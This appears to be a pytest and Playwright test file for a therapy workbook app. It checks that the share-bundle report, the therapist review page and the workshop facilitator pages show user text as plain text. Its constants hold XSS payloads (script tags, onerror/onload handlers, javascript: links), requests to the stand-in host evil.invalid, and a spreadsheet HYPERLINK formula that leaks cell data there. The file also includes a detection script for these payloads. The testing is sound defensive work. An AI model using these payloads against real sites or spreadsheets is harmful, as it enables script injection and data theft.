"""Script-bearing text never runs where people's words travel: the share bundle's report, the
therapist's review, and the workshop facilitator's pages.

Entries, a therapist's worksheet, a homework file and file names hold text written to run if it
ever became HTML (script tags, event handlers, `javascript:` links, requests to another host,
template and formula text). Each place is opened in Chromium with JavaScript on and checked the
same way (`assert_nothing_ran`): no dialog, `window.__wb_pwned` never set, no element the text
would have made, no request to any host but the page's own, and the text shown as typed.
"""

from __future__ import annotations

import datetime as dt
import json
import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path
from urllib.parse import quote

import pytest
from playwright.sync_api import Page, expect
from wb_browser import APP_READY_TIMEOUT_MS, Server, observe, start_server, stop_server
from wb_workshop import Running, start_workshop

from workbook import homework
from workbook import workshop as ws
from workbook.bundle import make_bundle
from workbook.store import Store

PWNED = "__wb_pwned"
SCRIPT = f"<script>window.{PWNED}=1</script>"
IMG = f'<img src=x onerror="window.{PWNED}=1">'
SVG = f'"><svg onload=window.{PWNED}=1>'
JS_LINK = f'<a href="javascript:window.{PWNED}=1">open me</a>'
BARE_JS = "javascript:alert(document.domain)"
ALERT = "</textarea></title><script>alert('pwned')</script>"
PIXEL = '<img src="http://evil.invalid/pixel.png">'
IMPORT = "<style>@import 'http://evil.invalid/x.css';</style>"
TEMPLATE = "{{7*7}} ${7*7} <%= 7*7 %>"
FORMULA = '=HYPERLINK("http://evil.invalid/?q="&A1,"see")'
# a file name cannot hold "/", so the script tag is left out of file and folder names
FILE_NAME = f'"><svg onload=window.{PWNED}=1> <img src=x onerror=alert(1)>'

# What the page must not hold, whatever else it holds (run in the page; returns what was found).
INJECTED = """() => {
  const found = [];
  const urlish = ['href', 'src', 'xlink:href', 'action', 'formaction', 'data', 'srcdoc', 'style'];
  for (const el of document.querySelectorAll('*')) {
    for (const name of el.getAttributeNames()) {
      const value = el.getAttribute(name) || '';
      if (name.startsWith('on') && /__wb_pwned|alert/.test(value)) found.push(`${el.tagName}[${name}]`);
      if (urlish.includes(name) && (/^\\s*javascript:/i.test(value) || value.includes('evil.invalid')))
        found.push(`${el.tagName}[${name}=${value}]`);
    }
    const tag = el.tagName.toLowerCase();
    if ((tag === 'script' || tag === 'style') && /__wb_pwned|alert\\(|evil\\.invalid/.test(el.textContent))
      found.push(`<${tag}> ${el.textContent.slice(0, 80)}`);
    if (tag === 'img' && el.getAttribute('src') === 'x') found.push('<img src=x>');
    if (tag === 'iframe') found.push('<iframe>');
  }
  return found;
}"""


# -- what people wrote --------------------------------------------------------------------------
def hostile_store(data_dir: Path) -> tuple[Store, str]:
    """A data folder whose text fields, and a worksheet's title, labels and options, would run as HTML."""
    store = Store(data_dir)
    sheet = store.install_worksheet(json.dumps({
        "name": "hostile", "title": f"Sheet {IMG}", "intro": SCRIPT,
        "fields": [{"name": "answer", "label": f"Answer {SVG}", "type": "long text", "help": JS_LINK},
                   {"name": "pick", "label": f"Pick {ALERT}", "type": "choice",
                    "options": [f"Option {SCRIPT}", "plain"]}]}))
    now = dt.datetime.now().astimezone()
    store.add("mood", {"mood": 3, "note": SCRIPT, "tags": [SVG, TEMPLATE]})
    store.add("mood", {"mood": 5, "note": IMG})
    store.add("win", {"description": JS_LINK})
    store.add("win", {"description": BARE_JS})
    store.add("thought_record", {
        "situation": IMG, "emotions": [{"name": SVG, "intensity": 60}],
        "automatic_thoughts": [{"text": SCRIPT, "hot": True}], "evidence_for": TEMPLATE,
        "evidence_against": FORMULA, "balanced_thought": JS_LINK,
        "emotions_after": [{"name": SVG, "intensity": 30}]})
    store.add("session", {"session_at": now.strftime("%Y-%m-%dT%H:%M"), "treatment": "esketamine",
                          "dose": SVG, "intention": ALERT, "other_effect": 3, "other_effect_name": IMG,
                          "came_up": PIXEL, "next_step": IMPORT})
    store.add("checkin", {**{f"phq9_{i}": 1 for i in range(1, 10)},
                          **{f"gad7_{i}": 1 for i in range(1, 8)}, "note": FORMULA})
    store.add(sheet.kind, {"answer": SCRIPT, "pick": sheet.fields[1].option_keys()[0]})
    return store, sheet.kind


# every payload, each as it must appear on the page (report.html shows every one of them)
SHOWN = (SCRIPT, IMG, SVG, JS_LINK, BARE_JS, ALERT, PIXEL, IMPORT, TEMPLATE, FORMULA)


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> tuple[Store, str, Path]:
    """The hostile data folder and a share bundle of everything in it, named with hostile text."""
    folder = tmp_path_factory.mktemp("hostile")
    store, sheet_kind = hostile_store(folder / "data")
    bundle = folder / "bundles" / f"{FILE_NAME} bundle.zip"
    bundle.parent.mkdir()
    make_bundle(store, bundle, None, None, list(store.catalog))
    return store, sheet_kind, bundle


# -- pages, watched -----------------------------------------------------------------------------
FROM_DISK = Server(url="file:///", data_dir=Path("."), proc=None)  # type: ignore[arg-type]


@pytest.fixture
def app_server(request: pytest.FixtureRequest) -> Server:
    """The host conftest's `watch` allows: the server a test started; for files opened from the
    disk, none at all (any http request is then to another host)."""
    if "review_server" in request.fixturenames:
        return request.getfixturevalue("review_server")
    if "facilitator_workshop" in request.fixturenames:
        return request.getfixturevalue("facilitator_workshop").server
    return FROM_DISK


@pytest.fixture
def new_page(browser, watch) -> Iterator[Callable[[], Page]]:
    """Fresh pages with JavaScript on, every request and dialog recorded in conftest's `watch`."""
    contexts = []

    def make() -> Page:
        context = browser.new_context(viewport={"width": 1000, "height": 900}, java_script_enabled=True)
        contexts.append(context)
        pg = context.new_page()
        pg.set_default_timeout(30_000)
        return observe(pg, watch)

    yield make
    for context in contexts:
        context.close()
    assert watch.dialogs == [], "JavaScript dialogs opened"
    assert watch.foreign() == [], f"requests to other hosts than {watch.netloc or 'none'}"


def assert_nothing_ran(pg: Page, watch, shown: tuple[str, ...] = (), where: str = "body") -> None:
    """No script ran, nothing was injected, no other host was asked; `shown` is there as typed."""
    for text in shown:
        expect(pg.locator(where).first).to_contain_text(text)
    assert pg.evaluate(f"() => typeof window.{PWNED}") == "undefined"
    assert pg.evaluate(INJECTED) == []
    assert watch.dialogs == []
    assert watch.foreign() == []


# -- the tests ----------------------------------------------------------------------------------
def test_the_checks_catch_text_that_runs(new_page, watch) -> None:
    """The same checks on a page that does put the text in as HTML: each one fails."""
    pg = new_page()
    pg.set_content(f"<p>{IMG}{SVG}{JS_LINK}{PIXEL}</p><p>{ALERT}</p>")
    expect(pg.locator("svg")).to_have_count(1)
    pg.wait_for_function(f"() => window.{PWNED} === 1")
    assert pg.evaluate(INJECTED)
    assert any("alert" in d for d in watch.dialogs)
    assert any("evil.invalid" in u for u in watch.foreign())
    watch.dialogs.clear()
    watch.requests.clear()


def test_report_html_in_the_share_bundle_shows_script_as_text(hostile, new_page, watch,
                                                              tmp_path: Path) -> None:
    _, _, bundle = hostile
    with zipfile.ZipFile(bundle) as archive:
        archive.extractall(tmp_path / "unzipped")  # as the therapist opens it
    report = tmp_path / "unzipped" / "report.html"
    pg = new_page()
    pg.goto(report.as_uri())
    expect(pg.locator("h1").first).to_be_visible()
    assert_nothing_ran(pg, watch, shown=(*SHOWN, f"Sheet {IMG}", f"Answer {SVG}", f"Option {SCRIPT}"))
    assert [u for u in watch.requests if not u.startswith("file:")] == []  # nothing at all over the network


@pytest.fixture
def review_server(tmp_path: Path) -> Iterator[Server]:
    srv = start_server(tmp_path / "review-data", tool="review")
    yield srv
    stop_server(srv)


def test_review_of_an_uploaded_bundle_shows_script_as_text(hostile, review_server: Server, new_page,
                                                           watch, tmp_path: Path) -> None:
    store, sheet_kind, bundle = hostile
    today = dt.date.today()
    assignment = homework.make_assignment(
        today - dt.timedelta(days=6), today + dt.timedelta(days=7),
        [homework.Item("mood", 3, prompt=f"Prompt {IMG}"), homework.Item(sheet_kind, 1, prompt=TEMPLATE)],
        note=f"Note {SCRIPT}", therapist=SVG, client=f"Client {SVG}",
        worksheet_list=[store.exercise(sheet_kind)])
    homework_file = tmp_path / f"{FILE_NAME} homework.json"
    homework_file.write_text(assignment.to_json(), encoding="utf-8")
    pg = new_page()
    pg.goto(review_server.url)
    expect(pg.locator(".wb-page-review")).to_be_visible(timeout=APP_READY_TIMEOUT_MS)
    with pg.expect_file_chooser() as chooser:
        pg.locator(".wb-upload").click()
    chooser.value.set_files([str(bundle), str(homework_file)])
    client = pg.locator(".wb-review-client")
    expect(client.locator(".wb-review-summary")).to_contain_text(bundle.name, timeout=APP_READY_TIMEOUT_MS)
    expect(client.locator(".wb-review-completion")).to_contain_text(f"Client {SVG}")
    expect(client.locator(".wb-chart svg").first).to_be_visible()
    assert_nothing_ran(pg, watch, where=".wb-page-review", shown=(
        bundle.name, homework_file.name, f"Prompt {IMG}", TEMPLATE, f"Note {SCRIPT}",  # homework
        SCRIPT, IMG, SVG, JS_LINK, BARE_JS,                                             # entries
        f"Sheet {IMG}", f"Answer {SVG}"))                                               # worksheet


# -- the workshop facilitator -------------------------------------------------------------------
# The workshop folder is the facilitator's to name, and the counts page shows it.
HOSTILE_FOLDER = (IMG, SVG, f"<script>window.{PWNED}=1<", "script>", TEMPLATE, "workshop")


@pytest.fixture
def facilitator_workshop(tmp_path: Path) -> Iterator[Running]:
    running = start_workshop(tmp_path.joinpath(*HOSTILE_FOLDER), pool=0, max_kernels=2)
    yield running
    stop_server(running.server)


def test_facilitator_pages_show_script_as_text(facilitator_workshop: Running, new_page, watch,
                                               tmp_path: Path) -> None:
    running = facilitator_workshop
    room = running.workshop()
    first, second, third = room.participants()
    # two participants wrote script-bearing entries; only the first shares counts
    for member, shares in ((first, True), (second, False)):
        store = Store(room.open_folder(member))
        store.add("mood", {"mood": 4, "note": f"{SCRIPT} written by a participant", "tags": [SVG]})
        store.add("win", {"description": f"{IMG} written by a participant"})
        ws.set_shares_counts(store.data_dir, shares)
    # the third participant's number was edited by hand into text that would run
    registry = json.loads(room.registry.read_text(encoding="utf-8"))
    for item in registry["members"]:
        if item["id"] == third.id:
            item["number"] = IMG
    room.registry.write_text(json.dumps(registry), encoding="utf-8")

    pg = new_page()
    pg.goto(running.admin)
    counts = pg.locator(".wb-admin-counts")
    expect(counts).to_contain_text("Joined and sharing their counts: 1 of 2 open links",
                                   timeout=APP_READY_TIMEOUT_MS)
    # one sharer: no sums (they would be one person's activity), a sentence instead
    expect(counts.locator(".wb-admin-too-few")).to_contain_text("once at least 3 participants share")
    pg.locator(".wb-admin-links summary").click()
    links = pg.locator(".wb-admin-links li")
    expect(links).to_have_text([f"participant 1: {first.id}", f"participant 2: {second.id}"])
    assert_nothing_ran(pg, watch, shown=(str(running.root),), where=".wb-admin")
    expect(pg.locator("body")).not_to_contain_text("written by a participant")  # counts only

    # a path that is hostile text reaches the server's own error page, not a script
    response = pg.goto(running.base + quote(f"{IMG}{SVG}"))
    assert response is not None and response.status in (403, 404)
    expect(pg.locator(".wb-error-page")).to_be_visible()
    assert_nothing_ran(pg, watch)


def test_printable_links_page_shows_script_as_text(new_page, watch, tmp_path: Path) -> None:
    """workshop-links.html, made with a public address the facilitator typed as hostile text."""
    address = f"http://127.0.0.1:1/{SVG}{IMG}"
    printable = ws.Workshop(tmp_path / "printable")
    printable.save_settings(public_url=address)
    printable.add(2)
    pg = new_page()
    pg.goto((printable.root / ws.LINKS_HTML).as_uri())
    expect(pg.locator(".card")).to_have_count(2)
    assert_nothing_ran(pg, watch, shown=("Participant 1", "Participant 2", f"{address}?key="))
